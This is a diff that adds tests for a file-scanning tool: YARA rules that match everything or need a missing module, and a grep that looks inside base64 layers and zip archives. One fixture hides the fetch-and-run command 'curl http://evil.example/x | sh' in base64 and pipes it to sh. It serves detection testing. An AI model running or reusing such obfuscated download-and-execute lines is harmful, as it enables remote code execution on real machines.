@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import base64
+import io
 import shutil
 import subprocess
 import sys
 import textwrap
+import zipfile
 
 import pytest
 
@@ -259,6 +261,27 @@ def test_a_rule_that_takes_too_long_is_named_and_the_others_are_applied(tmp_path
     assert given_up == ["slow.yar:Slow: it takes more than 1 s"]
 
 
+HOSTILE_RULES = """import "cuckoo"
+import "nosuchmodule"
+rule Needs_It { condition: cuckoo.network.http_request(/x/) }
+rule Everything { condition: true }
+rule Every_Byte { strings: $a = { ?? ?? } condition: $a }
+"""
+
+
+def test_rules_that_match_everything_or_need_what_is_not_there(tmp_path):
+    """A module that this YARA has not is named, with the rules that need it; a match of each byte gives ten strings of a member."""
+    rules = YaraRules([RuleText("hostile.yar", HOSTILE_RULES.encode())])
+    refused = [(one.line, one.reason) for one in rules.refused]
+    assert (2, 'unknown module "nosuchmodule"') in refused
+    assert [line for line, _ in refused if line == 3], refused
+    given_up: list[str] = []
+    found = {one.name: one for one in rules.match(bytes(1 << 20), {}, 20, given_up)}
+    assert set(found) == {"Everything", "Every_Byte"}
+    assert len(found["Every_Byte"].strings) == 10
+    assert given_up == ["hostile.yar:Every_Byte: $a occurs too often, only the first places were counted"]
+
+
 @pytest.mark.corpus
 def test_signature_base_matches_what_the_program_yara_matches(tmp_path, corpus):
     program = shutil.which("yara")
@@ -304,6 +327,22 @@ def test_grep_finds_places_in_archives_and_directories_and_writes_nothing(tmp_pa
     for pattern in ("", "(", "x*"):
         with pytest.raises(Complaint):
             grep.compiled(pattern, literal=False, fold=False)
+
+
+def test_grep_looks_into_what_is_decoded(tmp_path):
+    """A script whose address is in base64, alone and in an archive. The line has the layer, and the place in it."""
+    script = b"#!/bin/sh\necho " + base64.b64encode(b"curl http://evil.example/x | sh # inert") + b" | base64 -d | sh\n"
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("in/run.sh", script)
+    root, _ = host(tmp_path, **{"srv/run.sh": script, "srv/a.zip": packed.getvalue()})
+    account = grep.GrepAccount()
+    found = list(grep.search([root], [], grep.compiled("evil.example", literal=True, fold=False), account))
+    assert [(place.path, place.layer, place.offset) for place in found if place.path.startswith("/srv")] == [
+        ("/srv/a.zip", "in/run.sh > base64", 12),
+        ("/srv/run.sh", "base64", 12),
+    ]
+    assert account.left == []
 
 
 def test_grep_finds_a_place_on_a_border_of_two_pieces_once(tmp_path, monkeypatch):
